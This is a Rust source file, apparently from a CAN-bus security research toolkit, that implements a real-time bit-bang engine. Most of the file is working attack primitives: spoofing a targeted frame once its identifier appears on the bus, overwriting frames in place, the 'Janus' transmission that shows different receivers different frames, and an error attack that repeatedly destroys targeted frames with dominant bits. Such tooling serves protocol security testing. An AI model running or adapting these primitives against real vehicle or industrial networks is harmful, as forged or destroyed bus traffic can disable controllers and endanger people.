//! The real-time bit-bang engine: SOF/pattern synchronisation, the
//! transmit inner loop, the Janus dual-interpretation loop, and the
//! error-frame injection primitive.
//!
//! Every public method here is a hard real-time busy loop: none of them
//! suspend, yield, or allocate, and all assume exclusive, uninterrupted
//! access to the [`CanHackPort`] for their entire duration (see
//! [`CanHackPort`]'s safety section).

use crate::error::EngineError;
use crate::frame::Frame;
use canhack_core::{CanHackPort, DOMINANT, RECESSIVE};

/// Wrap-safe "has the deadline passed" test: `true` once `now` has caught up
/// to or passed `deadline`, even across a `u32` wraparound.
#[inline]
fn reached(now: u32, deadline: u32) -> bool {
    (now.wrapping_sub(deadline) as i32) >= 0
}

/// Expands an arbitration-phase mask/match pair into the data-phase bit
/// width, for use against a rolling shift register sampled at the faster FD
/// data rate. Each arbitration-phase bit becomes four data-phase bits: all
/// four mask bits set (still relevant), and four copies of the original
/// match bit.
///
/// This is the corrected form of the BRS EOF-mask expansion; see
/// `DESIGN.md` for why the naive port of the original computation
/// (`= -1` instead of `|=`) is wrong and not reproduced here.
pub fn expand_for_brs(_mask: u32, match_val: u32, width: u32) -> (u64, u64) {
    let mut out_mask = 0u64;
    let mut out_match = 0u64;
    for i in (0..width).rev() {
        let v = (match_val >> i) & 1;
        for _ in 0..4 {
            out_mask = (out_mask << 1) | 1;
            out_match = (out_match << 1) | v as u64;
        }
    }
    (out_mask, out_match)
}

/// The bit-bang engine, parameterised over a platform port.
///
/// Holds only the watchdog counter; all other state is local to each
/// primitive's call stack, since no primitive can be interrupted or resumed.
pub struct BitEngine<P: CanHackPort> {
    port: P,
    timeout: u32,
}

/// Result of a single bit-transmission inner loop.
enum SendOutcome {
    Finished,
    ArbitrationLost,
    Timeout,
}

/// Resumable state for [`BitEngine::send_bits_from`], letting spoof variants
/// seed the loop mid-stream instead of always starting at bit 0.
#[derive(Debug, Clone, Copy)]
pub struct SendState {
    /// Cycle count at which the current bit ends and the next begins.
    pub bit_end: u32,
    /// Cycle count at which the current bit should be sampled.
    pub sample_point: u32,
    /// Index of the next bit to drive from `frame.tx_bitstream`.
    pub tx_index: usize,
}

impl<P: CanHackPort> BitEngine<P> {
    /// Wraps a platform port with a fresh engine. Matches `init()` from the
    /// public API in spirit: starts with no watchdog budget set.
    pub fn new(port: P) -> Self {
        Self { port, timeout: 0 }
    }

    /// Releases the underlying port back to the caller.
    pub fn into_port(self) -> P {
        self.port
    }

    /// Sets the watchdog budget (outer-loop iterations before abort).
    pub fn set_timeout(&mut self, timeout: u32) {
        self.timeout = timeout;
    }

    /// Forces the next outer-loop iteration of any in-progress primitive to
    /// abort. Since primitives run to completion within one call, this is
    /// only useful when called from the same primitive's own retry path
    /// (e.g. a future cooperative-cancellation hook); exposed for API parity
    /// with the controller's `stop()`.
    pub fn stop(&mut self) {
        self.timeout = 0;
    }

    /// Compare-then-decrement watchdog tick. Returns `false` (and leaves the
    /// counter at 0) once the budget is exhausted, matching the
    /// compare-before-decrement semantics of the original watchdog without
    /// risking a `u32` underflow.
    fn tick(&mut self) -> bool {
        if self.timeout == 0 {
            return false;
        }
        self.timeout -= 1;
        true
    }

    /// Waits for the bus to idle into the plain-transmit SOF pattern: ten
    /// recessive bits followed by either a dominant bit (SOF already on the
    /// bus) or a further recessive bit (bus still idle, we'll drive SOF
    /// ourselves). Returns the index into `frame.tx_bitstream` at which our
    /// own transmission should begin.
    fn wait_for_sof(&mut self) -> Result<usize, EngineError> {
        const MASK: u32 = 0x7FE;
        const MATCH: u32 = 0x7FE;
        let reg = self.wait_for_pattern(MASK as u64, MATCH as u64)?;
        let last_bit = reg & 1;
        Ok((last_bit ^ 1) as usize)
    }

    /// Waits until the low bits of the rolling sampled-bit shift register
    /// match `(mask, match_val)`, resynchronising on every recessive-to-
    /// dominant edge the way a compliant receiver would. Returns the full
    /// register value at the moment of the match.
    fn wait_for_pattern(&mut self, mask: u64, match_val: u64) -> Result<u64, EngineError> {
        let mut reg: u64 = 0;
        self.port.reset_clock(0);
        let mut sample_point = P::SAMPLE_POINT_OFFSET;
        let mut prev_rx = self.port.get_rx();

        loop {
            if !self.tick() {
                return Err(EngineError::Timeout);
            }
            let now = self.port.now();
            let rx = self.port.get_rx();
            if P::FALLING_EDGE_RECALIBRATE && prev_rx == RECESSIVE && rx == DOMINANT {
                self.port.reset_clock(0);
                sample_point = P::SAMPLE_POINT_OFFSET;
            }
            prev_rx = rx;
            if reached(now, sample_point) {
                reg = (reg << 1) | (rx as u64);
                sample_point = sample_point.wrapping_add(P::BIT_TIME);
                if (reg & mask) == match_val {
                    return Ok(reg);
                }
            }
        }
    }

    /// Drives `frame` starting from `start_index`, asserting its first bit
    /// immediately and anchoring that bit's own sample point and end
    /// directly off the current instant via `SAMPLE_POINT_OFFSET` and
    /// `SAMPLE_TO_BIT_END`.
    fn send_bits(&mut self, frame: &Frame, start_index: usize) -> SendOutcome {
        let now = self.port.now();
        let sample_point = now.wrapping_add(P::SAMPLE_POINT_OFFSET);
        let bit_end = sample_point.wrapping_add(P::SAMPLE_TO_BIT_END);
        self.send_bits_from(
            frame,
            SendState {
                bit_end,
                sample_point,
                tx_index: start_index,
            },
        )
    }

    /// Core transmit inner loop: drives `frame.tx_bitstream[state.tx_index..]`
    /// bit by bit, switching bit time at the BRS and post-CRC boundaries for
    /// FD frames, and aborting as soon as a driven bit is not observed on
    /// the bus.
    ///
    /// `state.tx_index` always names the bit currently asserted on TX (it is
    /// driven once, immediately, before the loop starts); `state.bit_end`
    /// and `state.sample_point` are that same bit's own deadlines.
    fn send_bits_from(&mut self, frame: &Frame, mut state: SendState) -> SendOutcome {
        let mut tx_index = state.tx_index;
        if tx_index >= frame.tx_bits {
            return SendOutcome::Finished;
        }
        self.port.set_tx(frame.tx_bitstream[tx_index]);
        let mut cur_bit_time = P::BIT_TIME;
        let mut sample_offset = P::SAMPLE_POINT_OFFSET;
        let mut sample_to_end = P::SAMPLE_TO_BIT_END;

        loop {
            if !self.tick() {
                self.port.set_tx_recessive();
                return SendOutcome::Timeout;
            }
            let now = self.port.now();

            if reached(now, state.sample_point) {
                let rx = self.port.get_rx();
                if rx != frame.tx_bitstream[tx_index] {
                    self.port.set_tx_recessive();
                    return SendOutcome::ArbitrationLost;
                }
                state.sample_point = state.sample_point.wrapping_add(cur_bit_time);
            }

            if reached(now, state.bit_end) {
                let just_drove = frame.tx_bitstream[tx_index];
                let period_start = state.bit_end;
                tx_index += 1;

                if tx_index >= frame.tx_bits {
                    self.port.set_tx_recessive();
                    return SendOutcome::Finished;
                }

                if Some(tx_index) == frame.brs_bit.map(|b| b + 1) && just_drove == RECESSIVE {
                    cur_bit_time = P::BIT_TIME_FD;
                    sample_offset = P::SAMPLE_POINT_OFFSET_FD;
                    sample_to_end = P::SAMPLE_TO_BIT_END_FD;
                } else if tx_index == frame.last_crc_bit + 2 {
                    cur_bit_time = P::BIT_TIME;
                    sample_offset = P::SAMPLE_POINT_OFFSET;
                    sample_to_end = P::SAMPLE_TO_BIT_END;
                }

                self.port.set_tx(frame.tx_bitstream[tx_index]);
                state.sample_point = period_start.wrapping_add(sample_offset);
                state.bit_end = state.sample_point.wrapping_add(sample_to_end);
            }
        }
    }

    /// Transmits `frame`, retrying from the SOF wait up to `retries + 1`
    /// times on arbitration loss.
    pub fn send_frame(&mut self, frame: &Frame, retries: u32) -> Result<(), EngineError> {
        let mut attempts_left = retries + 1;
        loop {
            let start = self.wait_for_sof()?;
            match self.send_bits(frame, start) {
                SendOutcome::Finished => return Ok(()),
                SendOutcome::Timeout => return Err(EngineError::Timeout),
                SendOutcome::ArbitrationLost => {
                    attempts_left -= 1;
                    if attempts_left == 0 {
                        return Err(EngineError::ArbitrationLost);
                    }
                }
            }
        }
    }

    /// The Janus dual-interpretation transmit: each bit is split into three
    /// sub-phases (a forced dominant resync edge, then `frame1`'s bit, then
    /// `frame2`'s bit), so that receivers resynchronising on the initial
    /// edge but sampling at different offsets land on different frames.
    pub fn send_janus_frame(
        &mut self,
        frame1: &Frame,
        frame2: &Frame,
        sync_time: u32,
        split_time: u32,
        sync_time_fd: u32,
        split_time_fd: u32,
    ) -> Result<(), EngineError> {
        self.wait_for_sof()?;
        let total_bits = frame1.tx_bits.max(frame2.tx_bits);
        let mut tx_index = 0usize;
        let mut bit_end = self.port.now();
        let mut sync = sync_time;
        let mut split = split_time;
        let mut cur_bit_time = P::BIT_TIME;

        let bit1 = |i: usize| -> bool { if i < frame1.tx_bits { frame1.tx_bitstream[i] } else { RECESSIVE } };
        let bit2 = |i: usize| -> bool { if i < frame2.tx_bits { frame2.tx_bitstream[i] } else { RECESSIVE } };

        let mut tx1 = bit1(tx_index);
        let mut phase = 0u8; // 0 = waiting for bit_end, 1 = waiting for sync_end, 2 = waiting for split_end
        let mut sync_end = bit_end.wrapping_add(sync);
        let mut split_end = bit_end.wrapping_add(split);
        let mut tx2 = RECESSIVE;

        loop {
            if !self.tick() {
                self.port.set_tx_recessive();
                return Err(EngineError::Timeout);
            }
            let now = self.port.now();
            match phase {
                0 => {
                    if reached(now, bit_end) {
                        self.port.set_tx_dominant();
                        tx1 = bit1(tx_index);
                        sync_end = bit_end.wrapping_add(sync);
                        phase = 1;
                    }
                }
                1 => {
                    if reached(now, sync_end) {
                        self.port.set_tx(tx1);
                        tx_index += 1;
                        if tx_index >= total_bits {
                            self.port.set_tx_recessive();
                            return Ok(());
                        }
                        if Some(tx_index) == frame1.brs_bit.map(|b| b + 1) && tx1 == RECESSIVE {
                            sync = sync_time_fd;
                            split = split_time_fd;
                            cur_bit_time = P::BIT_TIME_FD;
                        } else if tx_index == frame1.last_crc_bit + 2 {
                            sync = sync_time;
                            split = split_time;
                            cur_bit_time = P::BIT_TIME;
                        }
                        tx2 = bit2(tx_index - 1);
                        split_end = sync_end.wrapping_add(split - sync);
                        phase = 2;
                    }
                }
                2 => {
                    if reached(now, split_end) {
                        let rx = self.port.get_rx();
                        if rx != tx1 {
                            self.port.set_tx_recessive();
                            return Err(EngineError::ArbitrationLost);
                        }
                        self.port.set_tx(tx2);
                        bit_end = split_end.wrapping_add(cur_bit_time - split);
                        phase = 0;
                    }
                }
                _ => unreachable!(),
            }
        }
    }

    /// Waits for `frame.tx_bitstream`'s SOF+identifier prefix to appear on
    /// the bus, then transmits the remainder of `frame` verbatim (a plain
    /// spoof) or via the Janus loop.
    pub fn spoof_frame(
        &mut self,
        frame: &Frame,
        bitstream_mask: u64,
        bitstream_match: u64,
    ) -> Result<(), EngineError> {
        self.wait_for_pattern(bitstream_mask, bitstream_match)
            .map_err(|_| EngineError::NoMatch)?;
        match self.send_bits(frame, 0) {
            SendOutcome::Finished => Ok(()),
            SendOutcome::Timeout => Err(EngineError::Timeout),
            SendOutcome::ArbitrationLost => Err(EngineError::ArbitrationLost),
        }
    }

    /// Waits for the identifier-prefix match, then overwrites the rest of
    /// the targeted frame in place (rather than re-arbitrating from SOF),
    /// compensating for the platform's own RX loopback latency.
    pub fn spoof_frame_error_passive(
        &mut self,
        frame: &Frame,
        bitstream_mask: u64,
        bitstream_match: u64,
        n_frame_match_bits: usize,
        loopback_offset: u32,
    ) -> Result<(), EngineError> {
        self.wait_for_pattern(bitstream_mask, bitstream_match)
            .map_err(|_| EngineError::NoMatch)?;
        let now = self.port.now();
        let sample_point = now
            .wrapping_add(P::SAMPLE_POINT_OFFSET)
            .wrapping_sub(loopback_offset);
        let state = SendState {
            bit_end: sample_point.wrapping_add(P::SAMPLE_TO_BIT_END),
            sample_point,
            tx_index: n_frame_match_bits,
        };
        match self.send_bits_from(frame, state) {
            SendOutcome::Finished => Ok(()),
            SendOutcome::Timeout => Err(EngineError::Timeout),
            SendOutcome::ArbitrationLost => Err(EngineError::ArbitrationLost),
        }
    }

    /// Waits for the identifier-prefix match, optionally drives an active
    /// error flag (6 dominant bit-times), then for `repeat` cycles waits
    /// for `(eof_mask, eof_match)` and destroys it with 7 dominant
    /// bit-times (long enough to corrupt the delimiter/IFS even against an
    /// error-passive population).
    pub fn error_attack(
        &mut self,
        bitstream_mask: u64,
        bitstream_match: u64,
        inject_error: bool,
        eof_mask: u64,
        eof_match: u64,
        repeat: u32,
    ) -> Result<(), EngineError> {
        self.wait_for_pattern(bitstream_mask, bitstream_match)
            .map_err(|_| EngineError::NoMatch)?;

        if inject_error {
            self.drive_dominant_for(6)?;
        }

        for _ in 0..repeat {
            self.wait_for_pattern(eof_mask, eof_match)
                .map_err(|_| EngineError::NoMatch)?;
            self.drive_dominant_for(7)?;
        }
        Ok(())
    }

    /// Drives TX dominant for exactly `bit_times` bit periods, then
    /// releases to recessive.
    fn drive_dominant_for(&mut self, bit_times: u32) -> Result<(), EngineError> {
        let deadline = self.port.now().wrapping_add(P::BIT_TIME * bit_times);
        self.port.set_tx_dominant();
        loop {
            if !self.tick() {
                self.port.set_tx_recessive();
                return Err(EngineError::Timeout);
            }
            if reached(self.port.now(), deadline) {
                self.port.set_tx_recessive();
                return Ok(());
            }
        }
    }

    /// Toggles TX at `BIT_TIME` for 160 bit periods; useful for calibrating
    /// a logic analyzer or oscilloscope against the configured timing.
    pub fn send_square_wave(&mut self) -> Result<(), EngineError> {
        let mut level = DOMINANT;
        let mut deadline = self.port.now().wrapping_add(P::BIT_TIME);
        self.port.set_tx(level);
        for _ in 0..160 {
            loop {
                if !self.tick() {
                    self.port.set_tx_recessive();
                    return Err(EngineError::Timeout);
                }
                if reached(self.port.now(), deadline) {
                    level = !level;
                    self.port.set_tx(level);
                    deadline = deadline.wrapping_add(P::BIT_TIME);
                    break;
                }
            }
        }
        self.port.set_tx_recessive();
        Ok(())
    }

    /// Mirrors RX onto the debug pin in real time for 160 bit periods (or
    /// 700, for an FD-length window), then stops. Does not drive TX.
    pub fn loopback(&mut self, fd: bool) -> Result<(), EngineError> {
        let periods: u32 = if fd { 700 } else { 160 };
        let deadline = self.port.now().wrapping_add(P::BIT_TIME.wrapping_mul(periods));
        loop {
            if !self.tick() {
                return Err(EngineError::Timeout);
            }
            let rx = self.port.get_rx();
            self.port.set_debug(rx);
            if reached(self.port.now(), deadline) {
                return Ok(());
            }
        }
    }
}
